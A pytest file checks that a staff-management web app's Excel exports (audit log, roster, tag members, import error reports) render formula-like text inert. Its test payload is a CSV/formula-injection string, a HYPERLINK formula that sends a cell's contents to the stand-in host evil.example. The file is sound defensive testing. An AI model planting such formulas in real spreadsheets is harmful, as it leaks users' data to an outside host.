"""Formula injection in every Excel export: text that starts like a formula (=, +, -, @) is written so that
Excel shows it and never evaluates it — the audit log, the roster, a tag's members, an import's error report."""
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from models import Session
from models.orgs import Staff
from workflows import audit, tags
from workflows.excel import FORMULA_TRIGGERS

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def cells_of(data):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_inert(data, must_contain=PAYLOAD):
    cells = cells_of(data)
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not any(t.startswith(FORMULA_TRIGGERS) for t in texts)
    assert any(must_contain in t for t in texts)


@pytest.fixture
def hospital(ready, users, browser_login):
    ready("jahosp001", "jaadmin01", verified=True)
    zhang = Session().scalars(select(Staff).where(Staff.staff_no == "JA0001")).one()
    zhang.note, zhang.major = PAYLOAD, "+1-2"
    Session.commit()
    return users("jahosp001")


def download(client, path):
    response = client.get(path)
    try:
        assert response.status_code == 200, path
        return response.data
    finally:
        response.close()


def test_audit_export(client, hospital, browser_login):
    audit.record("login", actor=hospital, target_name=PAYLOAD)
    Session.commit()
    browser_login("jaadmin01")
    assert_inert(download(client, "/audit/export"))


def test_roster_and_tag_exports(client, hospital, browser_login):
    tag = tags.create_tag(hospital, {"name": "@SUM(1,2)", "year": "2026", "description": PAYLOAD,
                                     "members": [str(Session().scalars(select(Staff.id).where(
                                         Staff.staff_no == "JA0001")).one())]})
    Session.commit()
    browser_login("jahosp001")
    assert_inert(download(client, "/stats/reports/export"))
    assert_inert(download(client, f"/personnel/tags/{tag.id}/export"), must_contain="张伟")


def test_import_error_report(client, hospital, browser_login):
    from workflows import imports
    _, template = imports.template(hospital, "basic")
    wb = load_workbook(io.BytesIO(template))
    sheet = wb["数据"]
    sheet.append([hospital.org.name, PAYLOAD])     # 机构名称, 姓名 (typed as text); the required rest left empty
    sheet.cell(row=sheet.max_row, column=2).data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    job = imports.start_import(hospital, "basic", "人员.xlsx", io.BytesIO(out.getvalue()))
    Session.commit()
    assert job.failed_count == 1
    from workflows import files
    with open(files.attachment_path(imports.report(hospital, job.id)), "rb") as fh:
        assert_inert(fh.read())
